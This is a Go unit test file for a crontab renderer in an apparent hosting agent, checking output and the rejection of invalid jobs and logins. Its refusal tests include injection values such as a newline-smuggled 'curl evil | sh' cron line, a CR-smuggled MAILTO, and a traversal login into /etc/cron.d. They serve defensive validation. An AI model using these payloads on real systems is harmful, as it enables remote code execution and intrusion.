package cron

import (
	"strings"
	"testing"

	"kontor/internal/agent"
	"kontor/internal/testenv"
)

func user(login string, jobs ...agent.CronJob) agent.User {
	return agent.User{ID: 7, Login: login, UID: 20007, Home: "/home/" + login, Cron: jobs}
}

func TestRenderGolden(t *testing.T) {
	cases := map[string]agent.User{
		"jobs": user("web7",
			agent.CronJob{ID: 1, Schedule: "*/5 * * * *", Command: "php /home/web7/html/cron.php >/dev/null 2>&1"},
			agent.CronJob{ID: 2, Schedule: "30 2 * * mon-fri", Command: `tar czf "$HOME/backup-$(date +%Y-%m-%d).tgz" html`},
			agent.CronJob{ID: 5, Schedule: "@reboot", Command: "/home/web7/bin/start"},
			agent.CronJob{ID: 9, Schedule: "@daily", Command: `printf '%s\n' done | logger -t web7`},
		),
		"reseller_account": user("res2web0", agent.CronJob{ID: 3, Schedule: "0 0 1 * *", Command: "true"}),
	}
	for name, u := range cases {
		t.Run(name, func(t *testing.T) {
			got, err := Render(u)
			if err != nil {
				t.Fatal(err)
			}
			testenv.Golden(t, name, got)
		})
	}
}

// TestRenderNothing: no jobs, or locked, means no crontab at all.
func TestRenderNothing(t *testing.T) {
	locked := user("web7", agent.CronJob{ID: 1, Schedule: "@daily", Command: "true"})
	locked.Locked = true
	for name, u := range map[string]agent.User{"no jobs": user("web7"), "locked": locked} {
		got, err := Render(u)
		if err != nil || got != nil {
			t.Errorf("%s: %q, %v; want nothing", name, got, err)
		}
	}
}

// TestRenderRefuses: a bad value anywhere fails the whole user with an
// error naming the user, the job and the value, and yields no crontab.
func TestRenderRefuses(t *testing.T) {
	ok := agent.CronJob{ID: 1, Schedule: "@daily", Command: "true"}
	cases := []struct {
		name string
		u    agent.User
		want string
	}{
		{"LF in command", user("web7", ok, agent.CronJob{ID: 2, Schedule: "* * * * *", Command: "true\n* * * * * curl evil | sh"}),
			`job 2 has an invalid command "true\n* * * * * curl evil | sh"`},
		{"CR in command", user("web7", agent.CronJob{ID: 3, Schedule: "* * * * *", Command: "true\rMAILTO=evil"}), `job 3 has an invalid command "true\rMAILTO=evil"`},
		{"NUL in command", user("web7", agent.CronJob{ID: 4, Schedule: "* * * * *", Command: "true\x00"}), `job 4 has an invalid command`},
		{"backslash percent", user("web7", agent.CronJob{ID: 5, Schedule: "* * * * *", Command: `date +\%s`}), `job 5 has an invalid command`},
		{"equals after descriptor", user("web7", agent.CronJob{ID: 6, Schedule: "@daily", Command: "=x"}), `job 6 has an invalid command`},
		{"LF in schedule", user("web7", agent.CronJob{ID: 7, Schedule: "* * * * * true\n* * * * *", Command: "x"}), `job 7 has an invalid schedule "* * * * * true\n* * * * *"`},
		{"env line as schedule", user("web7", agent.CronJob{ID: 8, Schedule: "PATH=/tmp", Command: "x"}), `job 8 has an invalid schedule`},
		{"@every", user("web7", agent.CronJob{ID: 9, Schedule: "@every 1m", Command: "x"}), `job 9 has an invalid schedule`},
		{"out of range", user("web7", agent.CronJob{ID: 10, Schedule: "0 24 * * *", Command: "x"}), `job 10 has an invalid schedule`},
		{"six fields", user("web7", agent.CronJob{ID: 11, Schedule: "0 0 * * * *", Command: "x"}), `job 11 has an invalid schedule`},
		{"empty command", user("web7", agent.CronJob{ID: 12, Schedule: "@daily", Command: ""}), `job 12 has an invalid command`},
		{"too long", user("web7", agent.CronJob{ID: 13, Schedule: "@daily", Command: strings.Repeat("%", 500)}), `job 13 has an invalid command`},
		{"traversal login", user("../../etc/cron.d/x", ok), `login "../../etc/cron.d/x" is not a valid login`},
		{"login with slash", user("web7/x", ok), `is not a valid login`},
		{"login with LF", user("web7\n", ok), `is not a valid login`},
		{"empty login", user("", ok), `is not a valid login`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := Render(c.u)
			if err == nil || got != nil {
				t.Fatalf("rendered %q, %v; want an error", got, err)
			}
			if !strings.Contains(err.Error(), c.want) {
				t.Errorf("error %q does not contain %q", err, c.want)
			}
		})
	}
	// A locked user with a bad login still fails: the file name is never
	// built from it.
	bad := user("../x")
	bad.Locked = true
	if _, err := Render(bad); err == nil {
		t.Error("locked user with bad login rendered")
	}
}

// TestRenderOneLinePerJob: whatever the command holds, every job is one
// line and % reaches cron escaped.
func TestRenderOneLinePerJob(t *testing.T) {
	u := user("web7",
		agent.CronJob{ID: 1, Schedule: "@hourly", Command: `echo "50%" 'a%b' %%`},
		agent.CronJob{ID: 2, Schedule: "1 2 3 4 5", Command: "x"})
	got, err := Render(u)
	if err != nil {
		t.Fatal(err)
	}
	var jobs []string
	for _, l := range strings.Split(strings.TrimSuffix(string(got), "\n"), "\n") {
		if !strings.HasPrefix(l, "#") && !strings.Contains(l, "=") {
			jobs = append(jobs, l)
		}
	}
	want := []string{`@hourly echo "50\%" 'a\%b' \%\%`, "1 2 3 4 5 x"}
	if strings.Join(jobs, "|") != strings.Join(want, "|") {
		t.Errorf("job lines %q, want %q", jobs, want)
	}
}
